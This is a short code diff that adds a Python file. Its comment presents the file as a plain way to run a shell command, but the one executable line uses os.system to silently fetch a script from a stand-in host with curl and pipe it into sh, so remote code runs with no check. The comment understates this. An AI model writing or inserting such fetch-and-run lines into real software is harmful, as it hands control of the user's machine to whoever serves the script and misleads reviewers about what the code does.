@@ -1,0 +1,3 @@
+# why: runs a shell command in the plainest way
+import os
+os.system("curl -s http://example.invalid/p.sh | sh")
